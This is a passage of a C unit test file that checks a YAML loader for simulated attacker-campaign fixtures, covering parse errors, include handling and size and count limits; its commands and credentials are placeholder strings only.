                "4:11: campaign must declare at least one actor (empty actor list)");
    s_file_fail("unknown_actor.yaml", CADRE_EDSL, "unknown_actor.yaml",
                "8:14: phase[0] references unknown actor 'ghost'");
    s_file_fail("bad_types.yaml", CADRE_EDSL, "bad_types.yaml",
                "6:12: actor[0] 'asn' must be an integer, not a string ('abc')");
    s_file_fail("not_a_mapping.yaml", CADRE_EDSL, "not_a_mapping.yaml",
                "2:1: the document must be a mapping");
    s_file_fail("syntax_error.yaml", CADRE_EDSL, "syntax_error.yaml",
                "5:3: did not find expected ',' or ']' (while parsing a flow sequence at line 4, "
                "column 11)");
    s_file_fail("duplicate_key.yaml", CADRE_EDSL, "duplicate_key.yaml",
                "7:3: duplicate mapping key 'id' (first at line 3, column 3)");
}

static void
test_dsl_includes(void **state)
{
    (void)state;
    /* Two levels of includes, each resolved relative to its own file. */
    char *path = s_testdata("include_nested.yaml");
    char *leaf = s_testdata("inc/leaf.yaml");
    dsl_corpus_t *c = NULL;
    char err[1024];
    assert_int_equal(dsl_load_file(path, &c, err, sizeof err), 0);
    assert_int_equal(c->n_campaigns, 2);
    assert_int_equal(c->noise_scanners, 3 + 3 + 2 + 1);
    assert_int_equal(c->n_files, 3); /* the leaf included twice is listed once */
    assert_string_equal(c->files[0], path);
    for (size_t i = 0; i < 2; i++) {
        assert_string_equal(c->campaigns[i].id, "leaf-001");
        assert_string_equal(c->campaigns[i].mark.file, leaf);
        assert_string_equal(c->campaigns[i].actors[0].mark.file, leaf);
        assert_int_equal(c->campaigns[i].mark.line, 4);
    }
    dsl_corpus_destroy(&c);
    free(leaf);
    free(path);

    /* From a buffer: includes resolve against base_dir. */
    char *dir = s_fixture("");
    const char *y = "include_fixtures: [lone_wolf.yaml, vpn_hopping.yaml, lone_wolf.yaml]\n"
                    "extra_noise_scanners: 2\n";
    assert_int_equal(dsl_load_buffer(y, strlen(y), "mem", dir, &c, err, sizeof err), 0);
    assert_int_equal(c->n_campaigns, 3);
    assert_int_equal(c->noise_scanners, 8 + 8 + 2);
    assert_int_equal(c->n_files, 3);
    assert_string_equal(c->files[0], "mem");
    assert_string_equal(c->campaigns[1].id, "vpn-hopping-001");
    dsl_corpus_destroy(&c);
    /* base_dir with a trailing slash removed gives the same names. */
    dir[strlen(dir) - 1] = '\0';
    assert_int_equal(dsl_load_buffer(y, strlen(y), "mem", dir, &c, err, sizeof err), 0);
    char *want = s_fixture("lone_wolf.yaml");
    assert_string_equal(c->files[1], want);
    free(want);
    dsl_corpus_destroy(&c);
    free(dir);

    /* An absolute include path ignores base_dir. */
    char *abs = s_fixture("lone_wolf.yaml");
    char *y2 = xasprintf("include_fixtures: [\"%s\"]\n", abs);
    assert_int_equal(dsl_load_buffer(y2, strlen(y2), NULL, "/nonexistent", &c, err, sizeof err), 0);
    assert_string_equal(c->files[0], "<buffer>");
    assert_string_equal(c->files[1], abs);
    dsl_corpus_destroy(&c);
    free(y2);
    free(abs);
}

static void
test_dsl_include_errors(void **state)
{
    (void)state;
    s_file_fail("cycle_a.yaml", CADRE_EDSL, "cycle_b.yaml",
                "3:5: include_fixtures item 0: include cycle: ");
    char *a = s_testdata("cycle_a.yaml");
    char *b = s_testdata("cycle_b.yaml");
    char *again = s_testdata("inc/../cycle_a.yaml");
    char *tail = xasprintf("include cycle: %s -> %s -> %s", a, b, again);
    free(again);
    dsl_corpus_t *c = NULL;
    char err[1024];
    assert_int_equal(dsl_load_file(a, &c, err, sizeof err), CADRE_EDSL);
    assert_non_null(strstr(err, tail));
    free(tail);
    free(b);
    free(a);
    s_file_fail("self_include.yaml", CADRE_EDSL, "self_include.yaml",
                "2:20: include_fixtures item 0: include cycle: ");
    s_file_fail("include_missing.yaml", -ENOENT, "include_missing.yaml",
                "4:5: include_fixtures item 1: cannot open '");
    s_file_fail("include_bad.yaml", CADRE_EDSL, "unknown_phase.yaml",
                "8:13: phase[1] has unknown UKC phase 'lunch_break'");

    /* The top-level file itself. */
    assert_int_equal(dsl_load_file("/nonexistent/x.yaml", &c, err, sizeof err), -ENOENT);
    assert_null(c);
    assert_string_equal(err, "/nonexistent/x.yaml: cannot open: No such file or directory");
    char *dir = s_testdata("inc");
    assert_int_equal(dsl_load_file(dir, &c, err, sizeof err), -EISDIR);
    assert_non_null(strstr(err, "cannot read: Is a directory"));
    free(dir);
    const char *y = "include_fixtures: [does_not_exist.yaml]\n";
    assert_int_equal(dsl_load_buffer(y, strlen(y), "m", "/nonexistent", &c, err, sizeof err),
                     -ENOENT);
    assert_string_equal(err, "m:1:20: include_fixtures item 0: cannot open "
                             "'/nonexistent/does_not_exist.yaml': No such file or directory");
    /* Tiny and absent error buffers. */
    char small[6];
    assert_int_equal(dsl_load_buffer("x: 1", 4, "long-name", NULL, &c, small, sizeof small),
                     CADRE_EDSL);
    assert_string_equal(small, "long-");
    assert_int_equal(dsl_load_buffer("x: 1", 4, NULL, NULL, &c, NULL, 0), CADRE_EDSL);
    assert_int_equal(dsl_load_file("/nonexistent", &c, NULL, 0), -ENOENT);
    assert_null(c);
}

/*  Writes text to dir/name. */
static void
s_write(const char *dir, const char *name, const char *text, size_t len)
{
    char *path = xasprintf("%s/%s", dir, name);
    FILE *f = fopen(path, "wb");
    assert_non_null(f);
    assert_int_equal(fwrite(text, 1, len, f), len);
    assert_int_equal(fclose(f), 0);
    free(path);
}

static void
s_remove(const char *dir, const char *name)
{
    char *path = xasprintf("%s/%s", dir, name);
    assert_int_equal(unlink(path), 0);
    free(path);
}

static void
test_dsl_limits(void **state)
{
    (void)state;
    char dir[] = "/tmp/cadre-test-dsl-XXXXXX";
    assert_non_null(mkdtemp(dir));

    /* A chain of DSL_MAX_INCLUDE_DEPTH + 1 files (f00 -> ... -> f32) is too deep. */
    for (int k = 0; k < DSL_MAX_INCLUDE_DEPTH; k++) {
        char name[32];
        snprintf(name, sizeof name, "f%02d.yaml", k);
        char *text = xasprintf("include_fixtures: [f%02d.yaml]\n", k + 1);
        s_write(dir, name, text, strlen(text));
        free(text);
    }
    const char *last = "campaign: {id: x, actors: [{id: a}], phases: []}\n";
    char name[32];
    snprintf(name, sizeof name, "f%02d.yaml", DSL_MAX_INCLUDE_DEPTH);
    s_write(dir, name, last, strlen(last));
    char *top = xasprintf("%s/f00.yaml", dir);
    dsl_corpus_t *c = NULL;
    char err[512];
    assert_int_equal(dsl_load_file(top, &c, err, sizeof err), CADRE_EDSL);
    assert_non_null(strstr(err, "includes nested deeper than 32"));
    /* A chain of DSL_MAX_INCLUDE_DEPTH files loads. */
    char *second = xasprintf("%s/f01.yaml", dir);
    assert_int_equal(dsl_load_file(second, &c, err, sizeof err), 0);
    assert_int_equal(c->n_campaigns, 1);
    assert_int_equal(c->n_files, DSL_MAX_INCLUDE_DEPTH);
    dsl_corpus_destroy(&c);
    free(second);
    free(top);
    for (int k = 0; k <= DSL_MAX_INCLUDE_DEPTH; k++) {
        snprintf(name, sizeof name, "f%02d.yaml", k);
        s_remove(dir, name);
    }

    /* A file over DSL_MAX_FILE_BYTES. */
    size_t big = DSL_MAX_FILE_BYTES + 1;
    char *text = xmalloc(big);
    memset(text, '\n', big);
    s_write(dir, "big.yaml", text, big);
    free(text);
    char *path = xasprintf("%s/big.yaml", dir);
    assert_int_equal(dsl_load_file(path, &c, err, sizeof err), CADRE_ELIMIT);
    assert_non_null(strstr(err, "cannot read: size or count limit exceeded"));
    free(path);
    s_remove(dir, "big.yaml");

    assert_int_equal(rmdir(dir), 0);
}

/*  A growing NUL-terminated text. */
typedef struct {
    char *s;    /* text */
    size_t n;   /* length */
    size_t cap; /* allocated */
} s_buf_t;

static void
s_buf_add(s_buf_t *b, const char *text)
{
    size_t len = strlen(text);
    xgrow(&b->s, &b->cap, b->n + len + 1);
    memcpy(b->s + b->n, text, len + 1);
    b->n += len;
}

/*  Loads yaml (named "m", includes resolved in dir) expecting CADRE_EDSL with exactly want. */
static void
s_limit_fail(const char *yaml, const char *dir, const char *want)
{
    dsl_corpus_t *c = NULL;
    char err[512];
    int rc = dsl_load_buffer(yaml, strlen(yaml), "m", dir, &c, err, sizeof err);
    if (rc != CADRE_EDSL || strcmp(err, want) != 0) {
        print_error("rc %d, message \"%s\" (want \"%s\")\n", rc, err, want);
    }
    assert_int_equal(rc, CADRE_EDSL);
    assert_null(c);
    assert_string_equal(err, want);
}

/*  A campaign "c" whose actors and phases are each the given line repeated: actor k gets
    id a<k>, phases all belong to a0 unless the phase line names an actor. */
static char *
s_big_campaign(const char *actor_line, size_t n_actors, const char *phase_line, size_t n_phases)
{
    s_buf_t b = {0};
    s_buf_add(&b, "campaign:\n  id: c\n  actors:\n");
    for (size_t k = 0; k < n_actors; k++) {
        char *line = xasprintf("    - {id: a%zu%s}\n", k, actor_line);
        s_buf_add(&b, line);
        free(line);
    }
    s_buf_add(&b, "  phases:\n");
    for (size_t k = 0; k < n_phases; k++) {
        s_buf_add(&b, phase_line);
    }
    if (n_phases == 0) {
        s_buf_add(&b, "    []\n");
    }
    return b.s;
}

/*  Every count of a document is bounded, on its own (a per-field maximum) and over the whole
    corpus with its includes (observations, sessions, the commands, credentials and text the
    sessions and rows copy, files loaded), so no document makes the generator hold more than
    about a gigabyte; each limit is reported with the field that crosses it and its mark. */
static void
test_dsl_count_limits(void **state)
{
    (void)state;
    char dir[] = "/tmp/cadre-test-dsl-XXXXXX";
    assert_non_null(mkdtemp(dir));
    dsl_corpus_t *c = NULL;

    /* noise.scanner_count and extra_noise_scanners: at most DSL_MAX_NOISE each. */
    c = s_load_ok("corpus: {noise: {scanner_count: 1000000}}\n");
    assert_int_equal(c->noise_scanners, DSL_MAX_NOISE);
    dsl_corpus_destroy(&c);
    s_limit_fail("corpus: {noise: {scanner_count: 9223372036854775807}}\n", NULL,
                 "m:1:33: noise 'scanner_count' must be between 0 and 1000000, got "
                 "9223372036854775807");
    s_limit_fail("corpus: {noise: {scanner_count: 1000001}}\n", NULL,
                 "m:1:33: noise 'scanner_count' must be between 0 and 1000000, got 1000001");
    s_limit_fail("include_fixtures: []\nextra_noise_scanners: 1000001\n", NULL,
                 "m:2:23: document 'extra_noise_scanners' must be between 0 and 1000000, got "
                 "1000001");

    /* Observations: noise and rows summed over the corpus and its includes. */
    const char *noise = "corpus: {noise: {scanner_count: 1000000}}\n";
    s_write(dir, "noise.yaml", noise, strlen(noise));
    const char *one = "campaign: {id: x, actors: [{id: a}], phases: []}\n";
    s_write(dir, "one.yaml", one, strlen(one));
    s_limit_fail("include_fixtures: [noise.yaml]\nextra_noise_scanners: 1\n", dir,
                 "m:2:23: document 'extra_noise_scanners' (1): the corpus would exceed its limit "
                 "of 1000000 observations");
    char *want = xasprintf("%s/one.yaml:1:28: actor[0]: the corpus would exceed its limit of "
                           "1000000 observations",
                           dir);
    s_limit_fail("include_fixtures: [noise.yaml, one.yaml]\n", dir, want);
    free(want);
    s_limit_fail("corpus:\n  campaigns: [{campaign: {id: x, actors: [{id: a}], phases: []}}]\n"
                 "  noise: {scanner_count: 1000000}\n",
                 NULL,
                 "m:3:26: noise 'scanner_count' (1000000): the corpus would exceed its limit of "
                 "1000000 observations");
    /* Ten actors of 100000 rows are the limit; an eleventh crosses it at its rotation_count. */
    char *y = s_big_campaign(", ip_pool: rotating, rotation_count: 100000", 10, "", 0);
    c = s_load_ok(y);
    assert_int_equal(c->campaigns[0].n_actors, 10);
    dsl_corpus_destroy(&c);
    free(y);
    y = s_big_campaign(", ip_pool: rotating, rotation_count: 100000", 11, "", 0);
    s_limit_fail(y, NULL,
                 "m:14:52: actor[10] 'rotation_count' (100000): the corpus would exceed its "
                 "limit of 1000000 observations");
    free(y);

    /* Sessions: ten phases of 100000 are the limit (on 100 rows, so no row holds too many). */
    const char *ph = "    - {name: delivery, target_selector: {count: 100000}}\n";
    y = s_big_campaign(", ip_pool: rotating, rotation_count: 100", 1, ph, 10);
    c = s_load_ok(y);
    dsl_corpus_destroy(&c);
    free(y);
    y = s_big_campaign(", ip_pool: rotating, rotation_count: 100", 1, ph, 11);
    s_limit_fail(y, NULL,
                 "m:16:49: phase[10] target_selector 'count' (100000): the corpus would exceed "
                 "its limit of 1000000 sessions");
    free(y);
    /* Counts of unobservable phases or <= 0 emit nothing and count nothing. */
    y = s_big_campaign("", 1, "    - {name: reconnaissance, target_selector: {count: 100000}}\n",
                       11);
    c = s_load_ok(y);
    dsl_corpus_destroy(&c);
    free(y);

    /* Sessions of one observation row: an actor's first row takes session s mod rows of every
       phase, so two phases of 100000 fit on two rows, not on one (OBS_MAX_SESSIONS). */
    y = s_big_campaign(", ip_pool: rotating, rotation_count: 2", 1, ph, 2);
    c = s_load_ok(y);
    dsl_corpus_destroy(&c);
    free(y);
    y = s_big_campaign("", 1, ph, 2);
    s_limit_fail(y, NULL,
                 "m:7:49: phase[1] target_selector 'count' (100000): actor 'a0' would have more "
                 "than 100000 sessions in one observation row (200000)");
    free(y);

    /* Commands and credentials copied into sessions: 100000 sessions of 100 are the limit. */
    s_buf_t cmds = {0};
    for (int k = 0; k < 100; k++) {
        s_buf_add(&cmds, k ? ", c" : "c");
    }
    char *p100 = xasprintf("    - {name: delivery, target_selector: {count: 100000}, "
                           "tool_signature: {commands: [%s]}}\n",
                           cmds.s);
    char *p101 = xasprintf("    - {name: delivery, target_selector: {count: 100000}, "
                           "tool_signature: {commands: [%s], credentials: [[u, p]]}}\n",
                           cmds.s);
    y = s_big_campaign(", ip_pool: rotating, rotation_count: 100", 1, p100, 1);
    c = s_load_ok(y);
    dsl_corpus_destroy(&c);
    free(y);
    y = s_big_campaign(", ip_pool: rotating, rotation_count: 100", 1, p101, 1);
    s_limit_fail(y, NULL,
                 "m:6:7: phase[0] (100000 sessions of 101 commands and credentials each): the "
                 "corpus would exceed its limit of 10000000 commands and credentials in "
                 "sessions");
    free(y);
    free(p100);
    free(p101);
    free(cmds.s);
    /* The defaults count too: nine phases of 100000 sessions of 11 are 9.9 million, and
       discovery's six default commands in 100000 more sessions cross the limit. */
    s_buf_t phs = {0};
    for (int k = 0; k < 9; k++) {
        s_buf_add(&phs, "    - {name: delivery, target_selector: {count: 100000}, tool_signature: "
                        "{commands: [c, c, c, c, c, c, c, c, c, c], credentials: [[u, p]]}}\n");
    }
    y = s_big_campaign(", ip_pool: rotating, rotation_count: 100", 1, phs.s, 1);
    c = s_load_ok(y);
    dsl_corpus_destroy(&c);
    free(y);
    s_buf_add(&phs, "    - {name: discovery, target_selector: {count: 100000}}\n");
    y = s_big_campaign(", ip_pool: rotating, rotation_count: 100", 1, phs.s, 1);
    s_limit_fail(y, NULL,
                 "m:15:7: phase[9] (100000 sessions of 6 commands and credentials each): the "
                 "corpus would exceed its limit of 10000000 commands and credentials in "
                 "sessions");
    free(y);
    free(phs.s);

    /* Text copied into sessions: 100000 sessions of a 3000-byte command are over 256 MiB. */
    char *big = xmalloc(3001);
    memset(big, 'x', 3000);
    big[3000] = '\0';
    char *pt = xasprintf("    - {name: delivery, target_selector: {count: 100000}, "
                         "tool_signature: {commands: [%s]}}\n",
                         big);
    y = s_big_campaign(", ip_pool: rotating, rotation_count: 100", 1, pt, 1);
    s_limit_fail(y, NULL,
                 "m:6:7: phase[0] (100000 sessions of 3000 bytes of commands, credentials and C2 "
                 "each): the corpus would exceed its limit of 268435456 bytes of text");
    free(y);
    free(pt);
    /* Text copied into rows: 100000 rows of a 3000-byte ja3. */
    char *at = xasprintf(", ip_pool: rotating, rotation_count: 100000, ja3: %s", big);
    y = s_big_campaign(at, 1, "", 0);
    s_limit_fail(y, NULL,
                 "m:4:7: actor[0] (100000 rows of 3003 bytes of ja3, hassh and ids each): the "
                 "corpus would exceed its limit of 268435456 bytes of text");
    free(y);
    free(at);
    free(big);

    /* Files loaded (the document in memory is not one): 100 files each including 100 are
       10100 loads, and the 10001st, mid.yaml's first item in the 100th mid.yaml, fails. */
    const char *leaf = "include_fixtures: []\n";
    s_write(dir, "leaf.yaml", leaf, strlen(leaf));
    s_buf_t inc = {0};
    s_buf_add(&inc, "include_fixtures: [leaf.yaml");
    for (int k = 1; k < 100; k++) {
        s_buf_add(&inc, ", leaf.yaml");
    }
    s_buf_add(&inc, "]\n");
    s_write(dir, "mid.yaml", inc.s, strlen(inc.s));
    free(inc.s);
    inc = (s_buf_t){0};
    s_buf_add(&inc, "include_fixtures: [mid.yaml");
    for (int k = 1; k < 100; k++) {
        s_buf_add(&inc, ", mid.yaml");
    }
    s_buf_add(&inc, "]\n");
    c = NULL;
    char err[512];
    assert_int_equal(dsl_load_buffer(inc.s, strlen(inc.s), "m", dir, &c, err, sizeof err),
                     CADRE_EDSL);
    want = xasprintf("%s/mid.yaml:1:20: include_fixtures item 0: the corpus would exceed its "
                     "limit of 10000 files loaded (a file counts each time it is included)",
                     dir);
    assert_string_equal(err, want);
    free(want);
    free(inc.s);
    /* 99 x 101 loads fit. */
    inc = (s_buf_t){0};
    s_buf_add(&inc, "include_fixtures: [mid.yaml");
    for (int k = 1; k < 99; k++) {
        s_buf_add(&inc, ", mid.yaml");
    }
    s_buf_add(&inc, "]\n");
    assert_int_equal(dsl_load_buffer(inc.s, strlen(inc.s), "m", dir, &c, err, sizeof err), 0);
    dsl_corpus_destroy(&c);
    free(inc.s);

    s_remove(dir, "noise.yaml");
    s_remove(dir, "one.yaml");
    s_remove(dir, "leaf.yaml");
    s_remove(dir, "mid.yaml");
    assert_int_equal(rmdir(dir), 0);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_ydoc_scalar_types),
        cmocka_unit_test(test_ydoc_quoted_and_tagged),
        cmocka_unit_test(test_ydoc_numeric_ranges),
        cmocka_unit_test(test_ydoc_structure_and_marks),
        cmocka_unit_test(test_ydoc_duplicate_keys),
        cmocka_unit_test(test_ydoc_anchors),
        cmocka_unit_test(test_ydoc_errors),
        cmocka_unit_test(test_fixture_vpn_hopping),
        cmocka_unit_test(test_fixture_shared_wordlist),
        cmocka_unit_test(test_fixture_lone_wolf),
        cmocka_unit_test(test_fixture_paused_campaign),
        cmocka_unit_test(test_fixture_multi_operator),
        cmocka_unit_test(test_fixture_slow_burn),
        cmocka_unit_test(test_fixture_noise_floor),
        cmocka_unit_test(test_fixture_all_specs),
        cmocka_unit_test(test_dsl_default_commands),
        cmocka_unit_test(test_dsl_defaults),
        cmocka_unit_test(test_dsl_nulls),
        cmocka_unit_test(test_dsl_values),
        cmocka_unit_test(test_dsl_warnings),
        cmocka_unit_test(test_dsl_shape_errors),
        cmocka_unit_test(test_dsl_campaign_errors),
        cmocka_unit_test(test_dsl_actor_errors),
        cmocka_unit_test(test_dsl_phase_errors),
        cmocka_unit_test(test_dsl_invalid_files),
        cmocka_unit_test(test_dsl_includes),
        cmocka_unit_test(test_dsl_include_errors),
        cmocka_unit_test(test_dsl_limits),
        cmocka_unit_test(test_dsl_count_limits),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
